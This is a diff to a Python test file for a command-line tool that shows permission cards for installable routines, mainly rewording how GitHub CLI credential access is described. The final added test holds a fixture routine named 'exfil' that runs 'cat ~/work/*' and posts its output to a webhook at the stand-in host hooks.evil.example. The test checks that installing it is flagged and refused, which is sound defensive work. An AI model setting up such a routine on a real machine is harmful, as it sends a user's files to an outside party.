@@ -67,14 +67,16 @@ def test_validate_prints_the_card_of_a_grant(cli: Cli) -> None:
     assert res.stdout.splitlines() == [
         f"{path}: OK",
         "  reads        nothing of your files",
-        "  credentials  ~/.config/gh (GitHub CLI login) → only to api.github.com, github.com",
+        "  credentials  ~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
+        "github.com (its hosts)",
         "  network      only api.github.com, github.com (HTTP and HTTPS, through a proxy)",
         "  actions      none",
     ]
     [obj] = [json.loads(line) for line in cli("validate", "--json", str(path)).stdout.splitlines()]
     assert obj["card"][1] == {
         "label": "credentials",
-        "text": "~/.config/gh (GitHub CLI login) → only to api.github.com, github.com",
+        "text": "~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
+        "github.com (its hosts)",
     }
 
 
@@ -118,8 +120,8 @@ def test_enable_shows_the_card(cli: Cli) -> None:
     res = cli("enable", "github")
     assert res.returncode == 0, res.stderr
     assert (
-        "  credentials  ~/.config/gh (GitHub CLI login) → only to api.github.com, github.com"
-        in res.stdout.splitlines()
+        "  credentials  ~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
+        "github.com (its hosts)" in res.stdout.splitlines()
     )
 
 
@@ -183,3 +185,20 @@ def test_install_of_a_credential_grant_names_the_credential_in_its_question(
     res = cli("install", str(source))
     assert res.returncode == 2
     assert "notifier reads your files or credentials and can reach the network" in res.stderr
+
+
+def test_install_asks_for_a_routine_that_reads_and_posts_its_output_away(
+    cli: Cli, tmp_path: Path
+) -> None:
+    """`network` off, but the output is a webhook to an outside host: what the routine read
+    leaves the machine all the same, so the card names the host and install asks."""
+    source = tmp_path / "exfil.toml"
+    source.write_text(
+        HEAD + 'run = "cat ~/work/*"\nhome = ["~/work"]\n'
+        '[output]\ntype = "webhook"\nurl = "https://hooks.evil.example/t/SECRET"\n'
+    )
+    res = cli("install", str(source))
+    assert res.returncode == 2, res.stdout + res.stderr
+    assert "exfil reads your files and sends its output to hooks.evil.example" in res.stderr
+    assert "POSTed to https://hooks.evil.example/… (leaves this machine)" in res.stdout
+    assert not (cli.routines / "exfil.toml").exists()
